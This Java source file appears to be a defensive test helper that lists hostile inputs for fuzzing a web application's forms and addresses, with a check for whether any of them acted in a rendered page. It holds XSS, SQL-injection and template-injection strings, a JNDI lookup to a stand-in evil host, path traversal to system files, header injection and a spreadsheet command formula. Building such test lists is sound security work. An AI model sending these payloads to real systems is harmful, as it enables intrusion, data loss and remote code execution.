package pl.asysta.attack;

import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;

/**
 * What somebody with bad intentions, a broken program or an unlucky hand sends. Texts that would act in a page carry the
 * mark {@value #MARK}, so that a page which lets them act is known by its source.
 */
final class Hostile {
    private static final String MARK = "zq9x";

    /** 7777 × 7777: a page that shows it has computed what somebody typed. */
    private static final String COMPUTED = "60481729";

    private static final List<String> ACTS = List.of(
            "<" + MARK,
            "x\"" + MARK,
            "x'" + MARK,
            COMPUTED,
            "href=\"javascript:",
            "src=\"javascript:",
            "action=\"javascript:");

    static final List<String> SCRIPTS = List.of(
            "<zq9x onmouseover=alert(1)>",
            "</textarea><zq9x>",
            "</title></script><zq9x>",
            "x\"zq9x=\"1",
            "x'zq9x='1",
            "javascript:alert('zq9x')",
            "<!--><zq9x><!--",
            "&lt;zq9x&gt;<zq9x/x=",
            "<svg><zq9x onload=alert(1)//",
            "\u003czq9x\u003e",
            "${7777*7777}",
            "[[${7777*7777}]]",
            "__${7777*7777}__::x",
            "#{7777*7777}",
            "*{7777*7777}",
            "${T(java.net.URI).create('zq9x')}",
            "${jndi:ldap://evil.example/zq9x}");

    static final List<String> STATEMENTS = List.of(
            "'",
            "''",
            "\\'",
            "' or '1'='1",
            "1 or 1=1",
            "') or ('1'='1' --",
            "'; drop table worker; --",
            "'||cast(1/0 as text)||'",
            "1/0",
            "%",
            "_%\\",
            "\\",
            "$$;select 1;$$",
            "ą'/*",
            "' union select null,null --",
            "E'\\000'",
            "*:* | !& ( <-> ')",
            "name desc; select 1");

    static final List<String> VALUES = List.of(
            "",
            " ",
            "\u00a0\u2003",
            "0",
            "-1",
            "1e309",
            "NaN",
            "2147483648",
            "9223372036854775808",
            "0x1F",
            "1,5",
            "true",
            "null",
            "undefined",
            "[]",
            "{}",
            "31.02.2026",
            "0000-00-00",
            "29.02.2025",
            "30.11.20266",
            "+999999999-12-31",
            "-999999999-01-01",
            "24:61",
            "25.13.2026 25:99",
            "8.5",
            "wczoraj",
            "00000000-0000-0000-0000-000000000000",
            "not-a-uuid",
            "../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "//evil.example",
            "https://evil.example/",
            "a\r\nSet-Cookie: zq9x=1",
            "a\u0000b",
            "\ud800",
            "\udc00\ud800",
            "\uffff\ufffe",
            "\u202egnp.exe",
            "Z\u0335\u0321\u0322a\u0307\u0306\u0310\u0311\u0300",
            "👩‍👧‍👦🇵🇱",
            "ﷺ",
            "ı İ ß",
            "=cmd|'/C calc'!A0",
            "44051401359",
            "4405140135x",
            "a@b",
            "{{7777*7777}}",
            "%00%0d%0a%c0%ae",
            "A".repeat(256),
            "ż".repeat(20_001),
            "9".repeat(400));

    /** For the parts of an address. */
    static final List<String> IDS = List.of(
            "00000000-0000-0000-0000-000000000000",
            "ffffffff-ffff-ffff-ffff-ffffffffffff",
            "1-1-1-1-1",
            "0",
            "-1",
            "99999999999999999999",
            "null",
            "1 or 1=1",
            "'",
            "<zq9x>",
            "x\"zq9x",
            "${7777*7777}",
            "ąęć",
            "2026-13-45",
            "9999-99",
            "R-2026",
            "A".repeat(2_000));

    /** Boxes that no form has: those of the rows behind it, and those by which frameworks were once taken over. */
    static final List<String> UNASKED = List.of(
            "id",
            "version",
            "role",
            "enabled",
            "password",
            "workerId",
            "author",
            "family",
            "caseId",
            "familyCase.id",
            "assistant",
            "status",
            "stage",
            "createdAt",
            "acknowledgedBy",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
            "members[999999].name",
            "members[-1].name",
            "members[0].x.y.z",
            "a[b[c",
            "..",
            "_method",
            "_csrf_header",
            "[0]",
            "class",
            "x".repeat(500));

    private Hostile() {}

    /** Everything that can be typed into a box. */
    static List<String> texts() {
        return Stream.of(VALUES, SCRIPTS, STATEMENTS).flatMap(List::stream).toList();
    }

    /** Some of these, another part for each place, so that together all are used. */
    static List<String> some(List<String> all, int many, int place) {
        var chosen = new ArrayList<String>();
        for (int i = 0; i < many; i++) {
            chosen.add(all.get(Math.floorMod(place * many + i, all.size())));
        }
        return chosen;
    }

    /** What of a page shows that a typed text acted in it. */
    static Optional<String> actingIn(String html) {
        return ACTS.stream()
                .mapToInt(html::indexOf)
                .filter(found -> found >= 0)
                .mapToObj(found -> html.substring(Math.max(0, found - 60), Math.min(html.length(), found + 60)))
                .findFirst();
    }
}
